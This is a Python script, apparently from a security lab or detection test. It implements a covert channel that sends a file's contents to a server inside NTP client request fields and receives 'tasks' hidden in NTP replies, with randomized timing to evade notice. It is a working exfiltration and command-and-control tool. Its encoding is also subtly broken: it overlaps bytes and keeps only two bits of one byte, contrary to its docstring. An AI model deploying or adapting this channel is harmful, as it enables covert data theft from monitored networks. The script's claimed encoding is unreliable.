#!/usr/bin/python3
"""f7-ntp-covert: a covert channel in NTP fields, not in names: the device sends well-formed NTPv4 client requests
(mode 3, 48 bytes, from port 123) to one server, one every 2-4 s, carrying 8 bytes of data each in the transmit
timestamp's fraction and the reference ID and the poll field; the server's mode-4 answers carry tasks in their
reference ID and reference timestamp. COUNT requests in all.
server (the victim's namespace): argv = server IP
client (the device): argv = client SERVER_IP COUNT FILE (the data sent)"""
import os, random, socket, struct, sys, time

NTP_DELTA = 2208988800


def ts(t):
    return int(t + NTP_DELTA), int((t % 1) * 2**32)


def server(ip):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((ip, 123))
    rnd = random.Random(5)
    while True:
        d, a = s.recvfrom(512)
        if len(d) < 48:
            continue
        now = time.time()
        sec, frac = ts(now)
        orig = d[40:48]
        task = os.urandom(4)
        r = struct.pack(">BBbb", 0x24, 2, d[2], -23) + struct.pack(">II", 0x00000A00 + rnd.randint(0, 255), 0x00001F40)
        r += task + struct.pack(">II", sec - 30, rnd.getrandbits(32)) + orig + struct.pack(">II", sec, frac)
        r += struct.pack(">II", sec, (frac + 2000) & 0xFFFFFFFF)
        s.sendto(r, a)


def client(sip, count, path):
    data = open(path, "rb").read()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("", 123))
    s.settimeout(2)
    rnd = random.Random()
    for i in range(count):
        chunk = data[i * 8:(i + 1) * 8].ljust(8, b"\0")
        sec, _ = ts(time.time())
        p = struct.pack(">BBbb", 0x23, 0, 6 + (chunk[0] & 3), 0x20) + struct.pack(">II", 0, 0)
        p += chunk[1:5] + bytes(8) + bytes(8) + bytes(8)   # refid = data, ref/orig/recv timestamps 0
        p += struct.pack(">I", sec) + chunk[4:8]           # transmit timestamp: now, fraction = data
        s.sendto(p, (sip, 123))
        try:
            s.recvfrom(512)
        except socket.timeout:
            pass
        time.sleep(rnd.uniform(2, 4))


if sys.argv[1] == "server":
    server(sys.argv[2])
else:
    client(sys.argv[2], int(sys.argv[3]), sys.argv[4])
